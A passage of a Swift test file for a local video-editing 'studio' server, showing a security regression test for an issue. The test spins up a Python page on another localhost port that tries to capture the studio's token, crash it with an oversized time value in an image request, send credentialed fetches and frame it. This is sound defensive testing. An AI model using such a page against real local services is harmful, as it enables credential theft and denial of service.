        #expect(frames[0].count == 780 * 500 * 4 * 60 && frames[0] == frames[1])
        #expect(await studio.stop() == 0)
    }
    /// Issue 65, 1 and 2: after the user has opened the studio, a page of another local
    /// port (another program's, reached by a link) sees no token in any request it gets
    /// (it once got the cookie on its own fetch and favicon), cannot crash the studio with
    /// an `<img>` of a bad time (no token goes with it now), and cannot frame it. The page
    /// took the token out of its address bar on load.
    @Test func anotherPortsPageGetsNoTokenAndCannotCrashTheStudio() async throws {
        let studio = try await StudioProcess.start()
        defer { Task { await studio.stop() } }
        let scratch = try ScratchDirectory("vidfx-attacker")
        let log = scratch.path("requests.jsonl")
        let studioBase = studio.base
        let attacker = """
            import http.server, json, sys
            log, studio = sys.argv[1], sys.argv[2]
            page = ('<!doctype html><link rel="icon" href="/favicon.ico"><body><script>'
                    'const S = %s; const done = (what) => fetch("/done?" + what).then(() => { window.finished = true; });'
                    'fetch("/steal").then(() => { const i = new Image();'
                    ' i.onload = () => done("img-loaded"); i.onerror = () => done("img-refused");'
                    ' i.src = S + "/api/frame?t=9223372036854775806/9223372036854775807"; });'
                    'fetch(S + "/api/info", {mode: "no-cors", credentials: "include"}).catch(() => 0);'
                    'const f = document.createElement("iframe"); f.src = S + "/"; document.body.appendChild(f);'
                    '</script>') % json.dumps(studio)
            class Handler(http.server.BaseHTTPRequestHandler):
                def do_GET(self):
                    with open(log, "a") as f: f.write(json.dumps({"path": self.path, "headers": dict(self.headers)}) + "\\n")
                    body = page.encode() if self.path == "/" else b"ok"
                    self.send_response(200); self.send_header("Content-Type", "text/html"); self.send_header("Content-Length", str(len(body)))
                    self.end_headers(); self.wfile.write(body)
                def log_message(self, *a): pass
            server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
            print(server.server_address[1], flush=True)
            server.serve_forever()
            """
        let process = Process()
        (process.executableURL, process.arguments) = Subprocess.withoutInheritedDescriptors("/usr/bin/python3", ["-c", attacker, log, studioBase])
        let out = Pipe()
        process.standardOutput = out
        process.standardError = FileHandle.nullDevice
        let running = try Subprocess.Running(process)
        defer { running.signal(SIGKILL) }
        var portText = ""
        for await chunk in Subprocess.chunks(out.fileHandleForReading) {
            portText += String(decoding: chunk, as: UTF8.self)
            if portText.contains("\n") { break }
        }
        let attackerBase = "http://127.0.0.1:" + portText.trimmingCharacters(in: .whitespacesAndNewlines)
        let steps = [
            "location.href",
            // The user follows a link to the other port's page, and the page does its worst.
            "new Promise(r => { setTimeout(() => { location.href = '\(attackerBase)/'; r(true); }, 200); })",
        ] + Array(repeating: """
            new Promise(r => { const c = () => (location.origin === '\(attackerBase)' && window.finished) ? r(location.href) : setTimeout(c, 50); c(); })
            """, count: 4)
        let results = try await Self.drive(studio.page, steps)
        let shown = results.first as? String ?? ""
        #expect(!shown.contains(studio.token) && shown.hasPrefix(studio.base), "the address bar after load: \(shown)")
        var requests = ""
        for _ in 0..<1200 where !requests.contains("/done?") {
            requests = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
            if !requests.contains("/done?") { try await Task.sleep(for: .milliseconds(50)) }
        }
        // cdp.py has closed Chromium by now; the page ran while its last step resolved, so
        // give the log a last read.
        print("the other port's page was asked for: \(requests.split(separator: "\n").compactMap { line in (try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])?["path"] as? String })")
        #expect(requests.contains("\"/steal\""), "the attacker's page ran: \(requests)")
        #expect(requests.contains("/done?img-refused"), "the <img> got no picture: \(requests)")
        #expect(!requests.contains(studio.token), "no request to the other port carries the token")
        #expect(try await studio.request("/api/info").status == 200, "the studio is still there")
        #expect(await studio.stop() == 0)
    }
}
